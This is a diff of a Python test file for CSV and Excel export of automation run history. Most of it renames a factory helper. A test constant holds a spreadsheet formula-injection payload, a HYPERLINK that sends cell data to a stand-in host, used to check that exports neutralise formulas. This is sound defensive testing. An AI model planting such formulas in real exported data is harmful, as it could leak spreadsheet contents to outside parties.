@@ -15,7 +15,7 @@ from db import queries
 from db.queries import ExecutionFilters
 from db.session import session_scope
 from service import exports
-from testkit.factories import ADMIN, add_runs, make_automation, now
+from testkit.factories import ADMIN, add_executions, make_automation, now
 
 
 def _frame(filters: ExecutionFilters) -> pd.DataFrame:
@@ -38,7 +38,7 @@ def history() -> dict[str, object]:
     a = make_automation(name="Alpha")
     b = make_automation(name="Beta")
     t = now()
-    add_runs(
+    add_executions(
         a,
         [
             {
@@ -49,7 +49,7 @@ def history() -> dict[str, object]:
             for n in range(20)
         ],
     )
-    add_runs(
+    add_executions(
         b,
         [{"status": "failed", "queued_at": t - timedelta(minutes=n, seconds=30)} for n in range(3)],
     )
@@ -181,8 +181,10 @@ HOSTILE = '=HYPERLINK("http://x.example/?d="&A2,"click")'
 def test_spreadsheet_formulas_from_names_and_errors_are_made_inert(tmp_path: Path) -> None:
     # given an automation named like a formula, whose run failed with formula-like text
     hostile = make_automation(name=HOSTILE)
-    add_runs(hostile, [{"status": "failed", "error": "@SUM(A1:A9)"}])
-    add_runs(make_automation(name="Plain - name"), [{"status": "failed", "error": "-1 items"}])
+    add_executions(hostile, [{"status": "failed", "error": "@SUM(A1:A9)"}])
+    add_executions(
+        make_automation(name="Plain - name"), [{"status": "failed", "error": "-1 items"}]
+    )
     # when the history is exported as CSV and as Excel
     _write(ExecutionFilters(), tmp_path / "h.csv", "csv")
     _write(ExecutionFilters(), tmp_path / "h.xlsx", "xlsx")
